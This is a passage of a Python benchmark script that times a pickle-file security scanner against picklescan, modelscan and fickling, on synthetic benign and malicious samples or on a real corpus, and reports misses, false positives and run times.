    def log(msg: str) -> None:
        if not args.quiet:
            print(msg, file=sys.stderr, flush=True)

    # One untimed warm-up per tool (byte-code cache, page cache), then the timed runs
    # round-robin so that background load affects every tool alike.
    for rnd in range(args.runs + 1):
        log("warm-up ..." if rnd == 0 else f"run {rnd}/{args.runs} ...")
        for t in tools:
            t.once()
        if rnd == 0:
            for t in tools:
                t.result.times.clear()
    for t in tools:
        t.finish()
    return [t.result for t in tools] + missing


def _details_synthetic(results: list[ToolResult], ds: Dataset) -> list[str]:
    out = []
    mal, ben = set(ds.malicious), set(ds.benign)
    for r in results:
        if not r.available or not r.times:
            continue
        missed = sorted(mal - r.flagged)
        fps = sorted(r.flagged & ben)
        out.append(f"{r.name}:")
        out.append(
            f"  missed malicious ({len(missed)}): {', '.join(Path(m).stem for m in missed) or '-'}"
        )
        out.append(f"  benign flagged ({len(fps)}): {', '.join(Path(f).stem for f in fps) or '-'}")
        if r.unscanned or r.errored:
            out.append(f"  unscanned: {', '.join(sorted(r.unscanned)) or '-'}")
            out.append(f"  errored: {', '.join(sorted(r.errored)) or '-'}")
        for k, v in r.extra.items():
            out.append(f"  {k}: {v}")
    return out


def _details_corpus(results: list[ToolResult], limit: int = 25) -> list[str]:
    out = []
    for r in results:
        if not r.available or not r.times:
            continue
        out.append(
            f"{r.name}: {len(r.flagged)} reported dangerous, "
            f"{len(r.unscanned)} unscanned, {len(r.errored)} errored"
        )
        for f in sorted(r.flagged)[:limit]:
            out.append(f"  dangerous: {f}")
        if len(r.flagged) > limit:
            out.append(f"  ... {len(r.flagged) - limit} more (see --json)")
        for k, v in r.extra.items():
            out.append(f"  {k}: {v}")
    return out


def machine() -> str:
    cpu = platform.processor() or platform.machine()
    try:
        for line in Path("/proc/cpuinfo").read_text().splitlines():
            if line.startswith("model name"):
                cpu = line.split(":", 1)[1].strip()
                break
    except OSError:
        pass
    return f"{cpu}, {os.cpu_count()} CPUs, Python {platform.python_version()}, {platform.system()}"


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    p.add_argument("--dir", help="generate the synthetic samples here (default: a temp dir)")
    p.add_argument("--corpus", help="benchmark over this directory of real files instead")
    p.add_argument(
        "--tools-venv", help="virtualenv holding picklescan/modelscan/fickling (default: PATH)"
    )
    p.add_argument("-n", "--runs", type=int, default=3, help="timed runs per tool (median, best)")
    p.add_argument(
        "-j", "--jobs", type=int, default=0, help="modelshield worker processes (0 = auto)"
    )
    p.add_argument("--timeout", type=float, default=600, help="seconds per tool run")
    p.add_argument(
        "--fickling-cli", action="store_true", help="also time `fickling --check-safety` per file"
    )
    p.add_argument("--json", metavar="FILE", help="write all results as JSON")
    p.add_argument("-q", "--quiet", action="store_true")
    args = p.parse_args(argv)
    if args.runs < 1:
        p.error("--runs must be at least 1")

    today = datetime.date.today().isoformat()
    header = f"{today} - {machine()} - median of {args.runs} runs after 1 warm-up"
    doc: dict[str, Any] = {"date": today, "machine": machine(), "runs": args.runs}
    with tempfile.TemporaryDirectory(prefix="modelshield-bench-work-") as work:
        if args.corpus:
            root = Path(args.corpus)
            n_files = len(all_files(root))
            results = run_tools(root, args, Path(work))
            print(f"corpus {root} ({n_files} files) - {header}\n")
            print(table_corpus(results, n_files, results[0].median))
            print()
            print("\n".join(_details_corpus(results)))
            doc.update(mode="corpus", root=str(root), files=n_files)
        else:
            if args.dir:
                root = Path(args.dir)
                if root.exists() and any(root.iterdir()):
                    p.error(f"--dir {root} is not empty")
            else:
                root = Path(work) / "samples"
            ds = generate(root)
            size = sum((root / f).stat().st_size for f in ds.benign + ds.malicious)
            results = run_tools(root, args, Path(work))
            print(
                f"synthetic: {len(ds.benign)} benign + {len(ds.malicious)} malicious pickles, "
                f"{size / 2**20:.1f} MiB - {header}"
            )
            if ds.skipped_kinds:
                print(f"not generated: {', '.join(ds.skipped_kinds)}")
            print()
            print(table_synthetic(results, ds, results[0].median))
            print()
            print("\n".join(_details_synthetic(results, ds)))
            doc.update(mode="synthetic", benign=ds.benign, malicious=ds.malicious, bytes=size)
    doc["tools"] = [_as_json(r) for r in results]
    if args.json:
        Path(args.json).write_text(json.dumps(doc, indent=2, sort_keys=True) + "\n", "utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main())
